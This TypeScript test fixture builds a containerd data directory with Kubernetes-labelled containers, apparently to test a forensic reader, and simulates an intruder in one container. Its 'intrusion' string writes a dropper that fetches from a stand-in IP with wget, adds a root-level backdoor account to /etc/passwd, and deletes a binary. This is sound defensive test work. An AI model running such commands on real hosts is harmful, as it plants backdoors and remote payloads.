import { type ChildProcess, execFileSync, spawn } from 'node:child_process';
import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { imageName, ociImageArchive } from './image.js';

/** The fake node's name, in its etc/hostname. */
export const nodeHostname = 'ip-10-0-1-23.eu-west-1.compute.internal';

/** A container the test data holds, as a Kubernetes node's containerd would have it. */
export interface MadeContainer {
  readonly namespace: string;
  readonly id: string;
  readonly labels: Readonly<Record<string, string>>;
}

/** What containerd itself said about a container while it ran: the oracle for the reader. */
export interface ContainerdSays {
  /** `ctr containers info`: the container record as containerd's API returns it. */
  readonly info: { readonly Image: string; readonly SnapshotKey: string; readonly CreatedAt: string };
  /** `ctr snapshots mounts`: the overlay mount options with upperdir and lowerdir. */
  readonly mount: string;
}

export interface ContainerdVolume {
  /** The fake node's root filesystem: containerd's data sits at var/lib/containerd under it. */
  readonly root: string;
  readonly containers: readonly (MadeContainer & { readonly says: ContainerdSays })[];
}

const podLabels = (pod: string, container: string, kind: 'container' | 'sandbox') => ({
  'io.kubernetes.pod.name': pod,
  'io.kubernetes.pod.namespace': 'shop',
  'io.kubernetes.pod.uid': `uid-${pod}`,
  'io.kubernetes.container.name': container,
  'io.cri-containerd.kind': kind,
});

/** The containers made: an app container that an intruder changes, its pod's sandbox, a plain one. */
export const madeContainers: readonly MadeContainer[] = [
  { namespace: 'k8s.io', id: 'web-0-app', labels: podLabels('web-0', 'app', 'container') },
  { namespace: 'k8s.io', id: 'web-0-sandbox', labels: podLabels('web-0', 'POD', 'sandbox') },
  { namespace: 'default', id: 'plain', labels: { purpose: 'not kubernetes' } },
];

/** What the intruder does inside web-0-app: drop a script, add a root user, delete a binary. */
export const intrusion =
  "printf '#!/bin/sh\\nwget http://203.0.113.9/x\\n' > /tmp/dropper.sh && chmod +x /tmp/dropper.sh && " +
  "echo 'toor:x:0:0::/root:/bin/sh' >> /etc/passwd && rm /bin/wget";

function configText(dir: string, root: string): string {
  return [
    'version = 2',
    `root = "${root}"`,
    `state = "${join(dir, 'state')}"`,
    'disabled_plugins = ["io.containerd.grpc.v1.cri"]',
    '[grpc]',
    `  address = "${join(dir, 'c.sock')}"`,
    '[ttrpc]',
    `  address = "${join(dir, 'c.sock.ttrpc')}"`,
    '',
  ].join('\n');
}

async function waitFor(check: () => boolean, what: string, timeoutMs = 20_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!check()) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

function stopped(child: ChildProcess): Promise<void> {
  return new Promise((resolve) => {
    if (child.exitCode !== null || child.signalCode !== null) return resolve();
    child.once('exit', () => resolve());
  });
}

export interface VolumeSize {
  /** Containers created (not run) besides the three, with pod labels: for benchmarks. */
  readonly extraContainers?: number;
  /** Files in an extra image layer: for benchmarks. */
  readonly manyFiles?: number;
}

/**
 * Runs Debian's containerd (1.6, with runc) as root on its own root, state and socket under
 * `dir` (never the system daemon), imports the test image, runs the containers with Kubernetes
 * labels, lets an intruder change web-0-app, then stops every task and the daemon so the data
 * directory is quiescent.
 */
export async function makeContainerdVolume(dir: string, size: VolumeSize = {}): Promise<ContainerdVolume> {
  const root = join(dir, 'node');
  const dataDir = join(root, 'var', 'lib', 'containerd');
  mkdirSync(dataDir, { recursive: true });
  mkdirSync(join(root, 'etc'));
  writeFileSync(join(root, 'etc', 'hostname'), `${nodeHostname}\n`);
  writeFileSync(join(dir, 'config.toml'), configText(dir, dataDir));
  writeFileSync(join(dir, 'image.tar'), ociImageArchive(size));
  const socket = join(dir, 'c.sock');
  const daemon = spawn('containerd', ['--config', join(dir, 'config.toml')], {
    stdio: ['ignore', 'ignore', 'pipe'],
  });
  const log: Buffer[] = [];
  daemon.stderr?.on('data', (chunk: Buffer) => log.push(chunk));
  const ctr = (namespace: string, args: readonly string[]) =>
    execFileSync('ctr', ['--address', socket, '--namespace', namespace, ...args], {
      encoding: 'utf8',
      stdio: ['ignore', 'pipe', 'pipe'],
    });
  const said = new Map<string, ContainerdSays>();
  try {
    await waitFor(() => existsSync(socket), 'containerd to open its socket');
    for (const namespace of new Set(madeContainers.map((container) => container.namespace))) {
      ctr(namespace, ['images', 'import', join(dir, 'image.tar')]);
    }
    for (const container of madeContainers) {
      const labels = Object.entries(container.labels).flatMap(([key, value]) => [
        '--label',
        `${key}=${value}`,
      ]);
      // Own runc state and cgroup per data set, so two test files can make theirs at once.
      const isolation = [
        '--runc-root',
        join(dir, 'runc'),
        '--cgroup',
        `/gatehouse-volume-tests/${basename(dir)}-${container.id}`,
      ];
      ctr(container.namespace, [
        'run',
        '-d',
        ...isolation,
        ...labels,
        imageName,
        container.id,
        'sleep',
        '100000',
      ]);
    }
    for (const container of madeContainers) {
      const info = JSON.parse(
        ctr(container.namespace, ['containers', 'info', container.id]),
      ) as ContainerdSays['info'];
      const mount = ctr(container.namespace, ['snapshots', 'mounts', '/mnt', info.SnapshotKey]);
      said.set(container.id, { info, mount });
    }
    for (let index = 0; index < (size.extraContainers ?? 0); index++) {
      const labels = Object.entries(podLabels(`load-${index}`, 'app', 'container'));
      ctr('k8s.io', [
        'containers',
        'create',
        ...labels.flatMap(([key, value]) => ['--label', `${key}=${value}`]),
        imageName,
        `load-${index}`,
      ]);
    }
    ctr('k8s.io', ['tasks', 'exec', '--exec-id', 'intruder', 'web-0-app', 'sh', '-c', intrusion]);
    for (const container of madeContainers) {
      ctr(container.namespace, ['tasks', 'kill', '--signal', 'SIGKILL', container.id]);
      await waitFor(
        () => /STOPPED/.test(ctr(container.namespace, ['tasks', 'ls'])),
        `${container.id} to stop`,
      );
      ctr(container.namespace, ['tasks', 'delete', container.id]);
    }
  } catch (error) {
    throw new Error(
      `making containerd test data: ${String(error)}\n${Buffer.concat(log).toString().slice(-3000)}`,
    );
  } finally {
    for (const container of madeContainers) {
      try {
        ctr(container.namespace, ['tasks', 'delete', '--force', container.id]);
      } catch {
        // Already deleted on the good path; on a failed one, whatever is left is still stopped below.
      }
    }
    daemon.kill('SIGTERM');
    await stopped(daemon);
  }
  return {
    root,
    containers: madeContainers.map((container) => ({ ...container, says: said.get(container.id)! })),
  };
}
